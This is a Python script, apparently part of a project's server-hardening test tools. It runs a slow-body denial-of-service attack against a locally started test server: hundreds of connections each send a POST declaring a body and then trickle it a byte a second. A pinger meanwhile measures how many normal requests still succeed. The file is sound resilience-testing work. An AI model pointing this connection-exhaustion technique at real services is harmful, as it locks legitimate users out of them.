"""Trickled bodies: connections that send a request head declaring a body, then the body a
byte a second, reconnecting whenever answered or closed; meanwhile a well-behaved client
pings. A server that waits for such bodies keeps each connection for as long as they
trickle, and once they fill its connection limit, nobody else gets in.

    python -m tools.attack_trickle [--connections 600] [--seconds 30]   # prints the figure
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import sys
import tempfile
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from impl.client.rawhttp import HOST
from tools.attacks import Pinger
from tools.live import LiveServer

# A body the service would read (at most 1 KiB), sent far too slowly to be worth waiting for.
HEAD = b"POST /ping HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n"
BYTE_EVERY_SECONDS = 1.0


@dataclass
class Trickle:
    """What an attack did: trickling connections opened, what they were answered (status:
    count; 0 for closed without an answer), and the pinger's results."""

    opened: int = 0
    answers: Counter[int] = field(default_factory=Counter)
    pinger: Pinger | None = None

    @property
    def pings_2xx_share(self) -> float:
        assert self.pinger is not None
        total = sum(self.pinger.statuses.values()) + self.pinger.failures
        good = sum(n for status, n in self.pinger.statuses.items() if 200 <= status < 300)
        return good / total if total else 0.0


async def _trickler(port: int, stop: asyncio.Event, tally: Trickle) -> None:
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(HOST, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        tally.opened += 1
        try:
            writer.write(HEAD)
            while not stop.is_set():
                try:
                    line = await asyncio.wait_for(reader.readline(), BYTE_EVERY_SECONDS)
                except TimeoutError:
                    writer.write(b"x")
                    await writer.drain()
                    continue
                tally.answers[int(line.split()[1]) if line else 0] += 1
                break
        except (OSError, ValueError, IndexError):
            tally.answers[0] += 1
        finally:
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()


def trickle(port: int, connections: int, seconds: float, ping_interval: float = 0.05) -> Trickle:
    """`connections` trickling connections against the service on `port` for `seconds`,
    a ping on a new connection every `ping_interval` meanwhile."""
    tally = Trickle()
    loop = asyncio.new_event_loop()
    stop = asyncio.Event()

    async def attack() -> None:
        tasks = [asyncio.create_task(_trickler(port, stop, tally)) for _ in range(connections)]
        await asyncio.gather(*tasks)

    runner = threading.Thread(target=loop.run_until_complete, args=(attack(),), daemon=True)
    runner.start()
    try:
        time.sleep(min(3.0, seconds / 4))  # the tricklers connect and start to trickle
        tally.pinger = Pinger(port).during(seconds, ping_interval)
    finally:
        loop.call_soon_threadsafe(stop.set)
        runner.join(BYTE_EVERY_SECONDS + 10)
        if not runner.is_alive():
            loop.close()
    return tally


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--connections", type=int, default=600)
    parser.add_argument("--seconds", type=float, default=30.0)
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory() as directory, LiveServer(Path(directory)) as live:
        result = trickle(live.port, args.connections, args.seconds)
    assert result.pinger is not None
    print(f"trickling connections: {args.connections} at a time, {result.opened} opened")
    print(f"their answers (0: closed unanswered): {dict(sorted(result.answers.items()))}")
    print(
        f"pings: {dict(result.pinger.statuses)}, {result.pinger.failures} failed; "
        f"2xx {result.pings_2xx_share:.1%}; median {result.pinger.median * 1000:.1f} ms, "
        f"worst {result.pinger.worst * 1000:.0f} ms"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
